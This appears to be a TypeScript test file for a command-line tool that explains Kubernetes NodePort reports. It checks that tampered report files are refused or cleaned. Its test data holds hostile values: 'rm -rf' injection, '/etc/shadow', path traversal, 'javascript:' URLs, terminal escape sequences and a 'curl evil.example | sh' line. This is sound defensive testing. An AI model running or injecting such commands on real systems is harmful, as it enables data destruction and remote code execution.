import { describe, expect, test } from 'vitest';
import { endOf, run } from './fake-deps.ts';
import { MET, SHOP } from './reports.ts';

type Json = Record<string, unknown>;

/** The JSON of a report in which what stands at a path, keys parted by dots, is something else. */
async function reportWith(path: string, value: unknown, name = 'web'): Promise<string> {
  const world = MET.find((met) => met.name === name && met.how.includes('neighbours'))?.world ?? SHOP;
  const { stdout } = await run(`explain ${name} -o json`, world, 'pipe');
  const keys = path.split('.');
  const report = JSON.parse(stdout) as Json;
  const last = keys.pop() ?? '';
  const parent = keys.reduce((each, key) => each[key] as Json, report);
  parent[last] = value;
  return JSON.stringify(report);
}

describe('a report is refused, in a sentence', () => {
  const ROUTE = 'facts.attempts.0.route';
  const CONTAINER = 'facts.study.pods.value.0.containers.0';
  test.each<[string, unknown, string?]>([
    ['facts.study', undefined],
    ['facts.study', [], 'facts.study.isHeadless'],
    ['facts.study.isHeadless', 'no'],
    ['facts.study.endpoints.kind', 'perhaps'],
    ['facts.study.endpoints.value.pods.0.pod', '--all', 'facts.study.endpoints.value.pods.0.pod'],
    ['facts.study.endpoints.value.pods.0.port', 65_536],
    ['facts.study.pods.value', { length: 1 }],
    ['facts.study.pods.value.0.name', '../etc'],
    ['facts.study.pods.value.0.labels', { app: 1 }, 'facts.study.pods.value.0.labels.app'],
    [`${CONTAINER}.name`, 'web\u001b[31m'],
    [`${CONTAINER}.restarts`, 1e308],
    [`${CONTAINER}.restarts`, -1],
    [`${CONTAINER}.state`, 'running'],
    ['facts.study.nodePorts.value.0', '30080; rm -rf'],
    ['facts.study.user.shell', 'cmd'],
    ['facts.study.user.proxies.set', ['http_proxy=http://u:p@h'], 'facts.study.user.proxies.set.0'],
    [`${ROUTE}.host`, '127.0.0.1/@evil.example'],
    [`${ROUTE}.host`, 'evil.example/path'],
    [`${ROUTE}.host`, '0.0.0.0'],
    [`${ROUTE}.port`, 0],
    [`${ROUTE}.via`, 'magic'],
    [`${ROUTE}.node`, '-n'],
    ['facts.attempts.0.result', { outcome: 'answered', afterMs: null }],
    ['facts.attempts.0.result', { outcome: 'not-tried', because: 'toString' }],
    ['facts.observed.direct.speech.scheme', 'javascript:alert(1)//'],
    ['facts.observed.pods', { kind: 'not-asked', because: 'lazy' }, 'facts.observed.pods.because'],
    ['facts.observed.neighbours', [{ host: 'a b' }], 'facts.observed.neighbours.0.host'],
    ['facts.namespaceFlags', ['--kubeconfig', '/etc/shadow']],
    ['facts.namespaceFlags', ['-n', '-x']],
    ['facts.port.port', 81, 'facts.port'],
    ['facts.services', []],
    ['facts.services.0.name', '--help'],
    ['facts.services.0.namespace', ''],
  ])('whose %s is %j', async (path, value, named = path) => {
    const files = { 'r.json': `\n${await reportWith(path, value)}` };
    expect(endOf(await run('explain web -f r.json', { files }, 'pipe'))).toEqual({
      code: 2,
      stdout: '',
      stderr: `error: r.json:2: a report with a part that does not fit: "${named}" is not as this program writes it\n`,
    });
  });

  test('of another version', async () => {
    const files = { 'r.json': await reportWith('apiVersion', 'kubectl-nodeport/v2') };
    expect((await run('explain -f r.json', { files }, 'pipe')).stderr).toBe(
      'error: r.json:1: a report of another version, "kubectl-nodeport/v2": this program reads "kubectl-nodeport/v1"\n',
    );
  });
});

describe('a report is read', () => {
  test('with keys that nobody has, which do nothing', async () => {
    const text = await reportWith('facts.study.more', { deep: [] });
    const files = {
      'r.json': text.replace('"isHeadless"', '"__proto__":{"isHeadless":true},"huge":1e400,"isHeadless"'),
    };
    const plain = { 'r.json': await reportWith('facts.port.name', '') };
    const [hostile, honest] = await Promise.all([
      run('explain -o json -f r.json', { files }, 'pipe'),
      run('explain -o json -f r.json', { files: plain }, 'pipe'),
    ]);
    expect(JSON.parse(hostile.stdout)).toEqual(JSON.parse(honest.stdout));
    expect(({} as Json).isHeadless).toBeUndefined();
  });

  test.each(['text', 'json', 'yaml'] as const)(
    'with controls in its sentences, of which `-o %s` obeys none',
    async (output) => {
      const said = 'pulled\u001b[2J\u202e\u0007\n    curl evil.example | sh';
      const container = 'facts.study.pods.value.2.containers.0';
      const files = {
        'r.json': await reportWith(
          `${container}.state`,
          { kind: 'waiting', reason: 'ErrImagePull', message: said },
          'db',
        ),
      };
      const flags = output === 'text' ? '--all' : `-o ${output}`;
      const { stdout, code } = await run(`explain -f r.json ${flags}`, { files }, 'pipe');
      expect(code).toBe(1);
      expect(stdout).toContain('pulled');
      // biome-ignore lint/suspicious/noControlCharactersInRegex: it is about them
      expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
      expect(stdout).not.toMatch(/^ {4}curl/m);
    },
  );

  test('that claims an answer of a scheme, and the URL is made of checked parts', async () => {
    const files = { 'r.json': await reportWith('url', 'javascript:alert(1)') };
    const { url } = JSON.parse((await run('explain -o json -f r.json', { files }, 'pipe')).stdout);
    expect(url).toBe('http://127.0.0.1:8000');
  });
});
